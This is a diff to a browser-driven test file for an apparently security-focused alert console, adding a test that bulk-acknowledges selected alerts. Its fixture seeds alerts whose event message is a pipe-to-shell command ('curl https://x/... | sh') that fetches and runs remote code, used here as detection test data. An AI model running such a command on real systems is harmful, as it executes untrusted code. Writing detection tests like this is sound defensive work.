@@ -14,6 +14,7 @@ import shutil
 import socket
 import threading
 import time
+from collections import Counter
 from collections.abc import Callable, Iterator
 from dataclasses import replace
 from pathlib import Path
@@ -77,7 +78,8 @@ def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Aler
     curl = [alert(900_000 + i, r=curl_rule, event={"message": f"curl https://x/{i} | sh"}, ts=time.time())
             for i in range(2)]
     alerts.store.upsert([*docs, xss.to_document(), *(c.to_document() for c in curl)])
-    ids = {"xss": xss.id, "curl": curl[0].id, "curl2": curl[1].id, "curl_rule": curl_rule.id, "correlation": next(d.alert.id for d in demo.alerts if d.alert.rule.kind == "correlation"),
+    busy = Counter(d.alert.rule.id for d in demo.alerts if d.alert.rule.kind == "sigma").most_common(1)[0][0]
+    ids = {"xss": xss.id, "busy_rule": busy, "curl": curl[0].id, "curl2": curl[1].id, "curl_rule": curl_rule.id, "correlation": next(d.alert.id for d in demo.alerts if d.alert.rule.kind == "correlation"),
            "high": next(d.alert.id for d in demo.alerts if d.alert.level == "high")}
     port = _free_port()
     server = uvicorn.Server(uvicorn.Config(create_app(ctx), host="127.0.0.1", port=port, log_config=None,
@@ -211,6 +213,22 @@ def test_false_positives_show_on_the_rule_and_admins_see_each_action_audited(
     assert any("triage" in r and "alert.triage" in r and ids["curl"] in r for r in rows)
     assert any("triage" in r and "console.sign_out" in r for r in rows)
     assert any("ops" in r and "console.sign_in" in r for r in rows)
+
+
+def test_bulk_acknowledge_of_a_selection(served: Any, browser: Any) -> None:
+    base, _, ids, _ = served
+    sign_in(browser, base, ANALYST, f"/?rule={ids['busy_rule']}&status=new&range=24h")
+    boxes = browser.find_elements(By.CSS_SELECTOR, "#queue input[name=ids]")
+    assert len(boxes) >= 2
+    chosen = [b.get_attribute("value") for b in boxes[:2]]
+    for box in boxes[:2]:
+        box.click()
+    Select(browser.find_element(By.ID, "bulk-action")).select_by_value("acknowledged")
+    browser.find_element(By.ID, "bulk-apply").click()
+    wait(browser, lambda d: len(d.find_elements(By.CSS_SELECTOR, "#queue input[name=ids]")) == len(boxes) - 2)
+    for alert_id in chosen:
+        browser.get(f"{base}/alerts/{alert_id}")
+        assert browser.find_element(By.ID, "alert-status").text == "acknowledged"
 
 
 def test_the_queue_works_from_the_keyboard(served: Any, browser: Any) -> None:
